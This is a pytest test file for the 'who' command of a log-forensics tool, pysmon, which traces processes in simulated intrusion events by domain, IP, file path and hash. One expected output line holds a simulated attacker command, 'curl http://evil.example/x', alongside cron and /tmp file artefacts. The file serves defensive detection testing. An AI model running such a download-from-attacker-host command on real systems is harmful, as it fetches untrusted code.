"""`pysmon who`, on a file and on a store."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tests.cli.calls import Caller
from tests.cli.logs import KINDS, written
from tests.views.cast import Cast, intrusion
from tests.views.test_chain import CHAIN

Given = tuple[str, Path]


@pytest.fixture(params=KINDS)
def given(request: pytest.FixtureRequest, tmp_path: Path) -> Given:
    return written(request.param, tmp_path, intrusion().entries)


def ids(out: str) -> list[int]:
    return [json.loads(line)["EventRecordID"] for line in out.splitlines()]


def test_the_process_is_told_from_its_ancestors_on(pysmon: Caller, given: Given) -> None:
    answer = pysmon("who", *given, "--ip", "192.0.2.1", "--id", 3)
    assert (answer.code, answer.err) == (0, "")
    assert answer.out.splitlines()[0::3] == CHAIN.splitlines()[0::3]
    assert "  > curl [101]  joe  since 2026-11-21 08:15:00.300  curl http://evil.example/x" in "\n".join(
        answer.out.splitlines()
    )


@pytest.mark.parametrize(
    ("asked", "found"),
    [
        (["--domain", "evil.example"], [3]),
        (["--domain", "EXAMPLE"], [3]),
        (["--domain", "vil.example"], []),
        (["--ip", "192.0.2.1"], [3, 4]),
        (["--ip", "10.0.0.2"], [4]),
        (["--ip", "192.0.2.10"], []),
        (["--file", "/etc/cron.d/x"], [8]),
        (["--file", "id"], [9, 10]),
        (["--file", "/tmp/*"], [5, 7, 8, 11]),
        (["--file", "*d/x"], [8]),
        (["--file", "*ron*"], [8]),
        (["--file", "i*"], [9, 10]),
        (["--file", "d*"], []),
        (["--file", "/tmp"], []),
        (["--hash", "aa11"], [7]),
        (["--hash", "MD5=00FF"], [7]),
        (["--hash", "aa12"], []),
        (["--file", "/tmp/*", "--where", "Image image curl", "--since", "2026-11-21"], [5]),
        (["--file", "/tmp/*", "-n", 2], [8, 11]),
    ],
)
def test_what_is_asked_for_is_found(pysmon: Caller, given: Given, asked: list[object], found: list[int]) -> None:
    answer = pysmon("who", *given, "--format", "json", *asked)
    assert ids(answer.out) == found
    assert answer.code == (0 if found else 1)


def test_each_process_is_told_once_with_all_that_it_did(pysmon: Caller, given: Given) -> None:
    blocks = pysmon("who", *given, "--file", "/tmp/*").out.split("\n\n")
    assert [block.count("created") + block.count("gave") + block.count("ended") for block in blocks] == [1, 2]
    assert blocks[1].splitlines()[2].strip().startswith("> x [102]")


def test_a_process_of_which_only_the_deed_is_known_is_told_as_far_as_it_goes(pysmon: Caller, tmp_path: Path) -> None:
    cast = Cast()
    cast.create(7, "/tmp/x", Image="/usr/bin/touch")
    assert pysmon("who", *written("--store", tmp_path, cast.entries), "--file", "/tmp/x").out.splitlines() == [
        "touch [7]  joe  began earlier",
        "  2026-11-21 08:15:00.100  touch (7) created /tmp/x",
    ]


@pytest.mark.parametrize("asked", [[], ["--ip", "1.2.3.4", "--file", "x"]])
def test_one_thing_must_be_asked_about(pysmon: Caller, given: Given, asked: list[str]) -> None:
    answer = pysmon("who", *given, *asked)
    assert (answer.code, answer.out) == (2, "")
    assert "name one thing" in answer.err


@pytest.mark.parametrize("name", ["*", "/tmp/*/x", "*a*b*"])
def test_a_star_elsewhere_is_misuse(pysmon: Caller, given: Given, name: str) -> None:
    answer = pysmon("who", *given, "--file", name)
    assert (answer.code, answer.out) == (2, "")
    assert "at the beginning or the end" in answer.err
